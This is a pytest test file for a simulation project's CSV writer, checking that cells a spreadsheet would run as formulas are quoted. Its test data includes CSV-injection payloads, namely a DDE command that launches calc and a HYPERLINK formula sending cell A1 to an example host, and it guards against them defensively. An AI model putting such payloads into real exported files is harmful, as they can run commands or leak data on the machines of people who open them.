"""CSV files open in a spreadsheet as data: cells a spreadsheet would run as formulas are quoted
(OWASP, CSV injection), numbers are left alone, and every CSV the project writes goes through
the one writer that does it (sim.csv_output)."""

from __future__ import annotations

import io
import re
import textwrap
from pathlib import Path

import pandas as pd
import pytest

from sim.cli import main
from sim.csv_output import neutralise_formulas, write_csv

REPO = Path(__file__).resolve().parents[1]


def _written(df: pd.DataFrame, **kwargs) -> str:
    buf = io.StringIO()
    write_csv(df, buf, **kwargs)
    return buf.getvalue()


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://example.com/?x="&A1,"map")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_quoted(cell):
    df = pd.DataFrame({"county": [cell], "change": [-1.5]})
    quoted = pd.DataFrame({"county": ["'" + cell], "change": [-1.5]})
    pd.testing.assert_frame_equal(neutralise_formulas(df), quoted)
    assert _written(df) == quoted.to_csv(index=False)


def test_numbers_and_plain_names_are_written_as_pandas_writes_them():
    df = pd.DataFrame({"county": ["Zengdu", "Sui County", "-5", "+1.5e3", "随州"], "change_pct": [-58.1, -0.5, 0.0,
                                                                                                     3.25, -1e-9],
                       "count": [-3, 0, 2, 5, -7]})
    plain = io.StringIO()
    df.to_csv(plain, index=False, float_format="%.10g")
    assert _written(df, float_format="%.10g") == plain.getvalue()
    assert neutralise_formulas(df) is df


def test_column_names_are_quoted_too():
    assert _written(pd.DataFrame({"=1+1": [1]})).splitlines()[0] == "'=1+1"


def test_every_csv_the_project_writes_goes_through_the_one_writer():
    direct = []
    for path in sorted([*REPO.glob("sim/**/*.py"), *REPO.glob("benchmarks/*.py"), *REPO.glob("docs/**/*.py")]):
        if path.name == "csv_output.py":
            continue
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", line):
                direct.append(f"{path.relative_to(REPO)}:{n}")
    assert direct == []


COUNTIES = textwrap.dedent("""\
    city:
      preset: suizhou
      counties:
        - {name: '=HYPERLINK("http://example.com","Zengdu")', population_share: 0.36, main_urban_area: true}
        - {name: "+Sui", population_share: 0.30}
        - {name: "@Guangshui", population_share: 0.34}
    """)


@pytest.mark.slow
def test_county_names_that_are_formulas_are_quoted_in_the_comparison_tables(tmp_path):
    (tmp_path / "base.yaml").write_text("extends: suizhou_baseline\n" + COUNTIES, encoding="utf-8")
    moved = "interventions:\n  rapid_response_points: {counties: ['+Sui', '@Guangshui']}\n"
    (tmp_path / "alt.yaml").write_text("extends: suizhou_2022\n" + COUNTIES + moved, encoding="utf-8")
    out = tmp_path / "out"
    assert main(["compare", str(tmp_path / "base.yaml"), str(tmp_path / "alt.yaml"), "--scale", "0.05", "-r", "2",
                 "--set", "run.warmup_days=7", "--no-plots", "-q", "--out", str(out)]) == 0
    areas = pd.read_csv(out / "areas_county.csv")
    assert set(areas["area"]) == {'\'=HYPERLINK("http://example.com","Zengdu")', "'+Sui", "'@Guangshui"}
    compare = pd.read_csv(out / "compare.csv")
    assert (compare.select_dtypes("number") < 0).any().any()  # negative numbers stay numbers
